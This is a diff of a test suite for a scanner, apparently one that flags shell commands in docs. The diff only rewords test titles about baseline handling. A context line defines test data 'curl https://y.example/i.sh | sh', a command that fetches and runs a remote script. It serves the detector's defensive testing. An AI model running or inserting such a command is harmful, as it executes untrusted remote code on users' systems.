@@ -9,7 +9,7 @@ const OTHER = "curl https://y.example/i.sh | sh";
 const BASE = ["--baseline", "base.json"];
 
 describe("a baseline", () => {
-  it("brings a repository to no findings, and a new one fails the run", async () => {
+  it("suppresses all findings of a repository, and a new one fails the run", async () => {
     const files = Object.fromEntries(
       Array.from({ length: 33 }, (_, i) => [`docs/${i}.md`, `${BAD}\n\n${BAD}\n\n${OTHER}\n`]),
     );
@@ -34,7 +34,7 @@ describe("a baseline", () => {
     expect(status).toBe(1);
   });
 
-  it("knows a finding whose line has moved or is wrapped otherwise, from any folder", async () => {
+  it("recognizes a finding whose line moved or is wrapped differently, from any folder", async () => {
     const cwd = folderWith({ "a/x.md": `${BAD}\n` });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     writeFileSync(
@@ -47,7 +47,7 @@ describe("a baseline", () => {
     ).toMatchObject({ status: 0 });
   });
 
-  it("does not know another address, rule or file", async () => {
+  it("does not apply to another address, rule or file", async () => {
     const cwd = folderWith({ "x.md": `${BAD}\n` });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     writeFileSync(join(cwd, "x.md"), OTHER);
@@ -59,7 +59,7 @@ describe("a baseline", () => {
     expect(await runHere(["scan", "y.md", ...BASE], { cwd })).toMatchObject({ status: 1 });
   });
 
-  it("keeps what was not scanned, and forgets files that are gone and what a comment says", async () => {
+  it("keeps entries of files that were not scanned, and drops removed files and commented findings", async () => {
     const cwd = folderWith({ "x.md": BAD, "y.md": BAD, "z.md": BAD });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     rmSync(join(cwd, "z.md"));
@@ -70,7 +70,7 @@ describe("a baseline", () => {
     ]);
   });
 
-  it("holds no command, so that it is clean itself", async () => {
+  it("contains no command, so that it has no findings itself", async () => {
     const cwd = folderWith({ "x.md": BAD });
     await runHere(["scan", ".", ...BASE, "--update-baseline"], { cwd });
     expect(readFileSync(join(cwd, "base.json"), "utf8")).not.toContain("curl");
@@ -88,7 +88,7 @@ describe("a baseline", () => {
     [["--baseline", "old.json"], "old.json: is not a curlew baseline"],
     [["--baseline", "x.md", "--update-baseline"], "x.md: is not a curlew baseline"],
     [["--update-baseline"], "--update-baseline needs --baseline FILE"],
-  ])("%j is refused", async (args, message) => {
+  ])("%j is rejected", async (args, message) => {
     const cwd = folderWith({ "x.md": BAD, "old.json": '{"version": 2, "findings": {}}' });
     expect(await runHere(["scan", "x.md", ...args], { cwd })).toMatchObject({
       status: 2,
